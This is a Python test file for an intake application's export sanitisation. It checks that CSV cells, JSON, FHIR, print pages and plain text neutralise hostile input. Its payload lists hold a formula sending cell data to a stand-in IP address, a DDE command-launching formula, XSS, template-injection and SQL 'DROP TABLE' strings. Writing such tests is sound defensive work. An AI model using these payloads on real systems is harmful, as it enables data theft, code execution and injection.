"""Words that would do harm in a spreadsheet, a page or a parser come out as words."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desk.exporting.csv_rows import as_written, safe
from desk.exporting.plain import in_line, quoted
from tests.desk.builder import PARTIAL, Desk
from tests.desk.leaving import FILES, file, fits_fhir, rows, text, walk

STARTS = "=+-@\t\r\n\0＝＋－＠"
FORMULAS = [
    '=HYPERLINK("http://203.0.113.7/"&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+44 7700 900123",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "all well;=1+1",
    'she said "=1+1"',
    "one\n=1+1",
    "a,\t-1",
]
SCRIPTS = [
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7919*7907}} {% raw %} %(x)s {0.__class__}",
    "</main><iframe srcdoc='<script>alert(1)</script>'>",
    "'; DROP TABLE person; --",
    "\u202egnp.exe \u2066x",
    "]]>&lt;&amp;\x0b\x0c\x1b[2J\x85\u2028\u2029\u00a0",
]


@pytest.mark.parametrize("words", FORMULAS)
def test_no_cell_is_a_formula(words: str) -> None:
    cell = safe(words)
    assert cell[0] not in STARTS
    # A spreadsheet that takes a semicolon or a tab for the end of a cell sees no formula either.
    for part in re.split(r"[;\t\r\n\"|,]", cell):
        assert part.lstrip(" \u200b\ufeff")[:1] not in set("=+-@＝＋－＠") or not part
    assert as_written(cell) == words


@pytest.mark.parametrize("start", STARTS)
def test_each_beginning_is_marked(start: str) -> None:
    assert safe(f"{start}x") == f"'{start}x"


@pytest.mark.parametrize("words", ["", "tea", "it's", "'quoted'", "a-b", "3 + 4", "x = y", "mum's"])
def test_other_words_stay_as_they_are(words: str) -> None:
    assert safe(words) == words
    assert as_written(words) == words


@given(st.text(st.sampled_from("=+-@'\t\r\n\0;,|\" ax＝\u200b\u00a0"), max_size=12))
def test_what_went_out_comes_back(words: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerow([safe(words), "next"])
    back = next(csv.reader(io.StringIO(out.getvalue(), newline=""), strict=True))
    assert [as_written(back[0]), back[1]] == [words, "next"]
    assert safe(words)[:1] not in set(STARTS) or not words


@pytest.mark.parametrize(
    "end", ["\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x85", "\u2028", "\u2029"]
)
def test_nothing_they_write_passes_for_a_word_of_ours(end: str) -> None:
    lines = quoted(f"hello{end}CONTACT SAFELY{end}Safe to call").split("\n")
    assert all(line.startswith(">") for line in lines)
    assert in_line(f"Jo{end}CONTACT SAFELY") == "“Jo CONTACT SAFELY”"


async def test_payloads_in_every_format(desk: Desk) -> None:
    """As an answer, as a name and as a note, all of them in one intake each way."""
    payloads = [words.replace("\0", "") for words in (*FORMULAS, *SCRIPTS)]
    csrf = await desk.sign_in()
    for words in payloads[::3] + SCRIPTS:
        made = desk.intake({**PARTIAL, "name": words, "would_help": words}, notes=payloads)
        files = {format: await file(desk, made, format, csrf) for format in FILES}
        table = rows(files["csv"])
        assert all(
            cell[:1] not in set(STARTS) or not cell for row in table for cell in row.values()
        )
        assert as_written(next(r for r in table if r["question"] == "would_help")["words"]) == words
        told = json.loads(files["json"])["intake"]
        assert told["name"] == words
        assert [note["words"] for note in told["notes"]] == payloads
        resource = json.loads(files["fhir"])
        assert fits_fhir(resource) == []
        notes = next(item for item in walk(resource) if item["linkId"] == "also_written")
        assert len(notes["answer"]) == len(payloads)
        page = await desk.page(f"/desk/intake/{made.reference}/print")
        for harm in ("<script>alert", "<img src=x", "<iframe", "62615533"):
            assert harm not in page
        lines = (await text(desk, made)).splitlines()
        assert lines.count("CONTACT SAFELY") == 1
        assert f"Name to use: “{' '.join(words.split())}”" in lines or "\u2028" in words
